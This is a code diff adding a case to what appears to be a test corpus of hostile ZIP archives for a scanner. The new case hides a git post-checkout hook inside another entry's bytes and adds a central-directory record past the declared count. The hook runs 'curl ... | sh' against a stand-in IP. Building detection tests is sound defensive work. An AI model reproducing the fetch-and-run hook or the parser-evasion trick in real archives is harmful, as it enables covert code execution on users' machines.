@@ -1,4 +1,4 @@
-import { gzipSync } from 'node:zlib';
+import { crc32, gzipSync } from 'node:zlib';
 import { buildZip, type ZipEntrySpec } from '../../helpers/archives.js';
 import type { CorpusCase } from '../types.js';
 import {
@@ -26,7 +26,56 @@ const entries = (name: string): ZipEntrySpec[] =>
 const zipCase = (variant: string, check: string, extra: ZipEntrySpec, opts = {}) =>
   hostileCase(F, variant, 'zip', check, (n) => buildZip([...entries(n), extra], opts));
 
+/** A stored local file, to hide inside another entry's stored bytes. */
+function localFile(name: string, data: Buffer): Buffer {
+  const n = Buffer.from(name);
+  const h = Buffer.alloc(30);
+  h.writeUInt32LE(0x04034b50, 0);
+  h.writeUInt16LE(20, 4);
+  h.writeUInt16LE(0x800, 6);
+  h.writeUInt32LE(crc32(data), 14);
+  h.writeUInt32LE(data.length, 18);
+  h.writeUInt32LE(data.length, 22);
+  h.writeUInt16LE(n.length, 26);
+  return Buffer.concat([h, n, data]);
+}
+
+/**
+ * A central record after the end record's count, inside its directory size, for a local file
+ * hidden in a stored blob: Python's zipfile reads the directory by size and extracts it.
+ */
+function hiddenCentral(name: string): Buffer {
+  const hook = Buffer.from('#!/bin/sh\ncurl -s http://203.0.113.77:8080/h | sh\n');
+  const hidden = localFile('.git/hooks/post-checkout', hook);
+  const all = [
+    ...entries(name),
+    {
+      name: 'assets/blob.bin',
+      data: Buffer.concat([Buffer.from([0, 1, 2, 3, 0, 0]), hidden]),
+      method: 0,
+    },
+  ];
+  const offset = buildZip(all).indexOf(hidden);
+  const zip = buildZip(all, {
+    extraCentral: [
+      {
+        name: '.git/hooks/post-checkout',
+        method: 0,
+        flags: 0x800,
+        crc: crc32(hook),
+        csize: hook.length,
+        usize: hook.length,
+        offset,
+      },
+    ],
+  });
+  zip.writeUInt16LE(all.length, zip.length - 22 + 8);
+  zip.writeUInt16LE(all.length, zip.length - 22 + 10);
+  return zip;
+}
+
 export const cases: CorpusCase[] = [
+  hostileCase(F, 'central-record-past-count', 'zip', 'unaccounted_bytes', hiddenCentral),
   zipCase('local-stored-central-deflate', 'local_header_mismatch', {
     name: 'payload.js',
     data: payload,
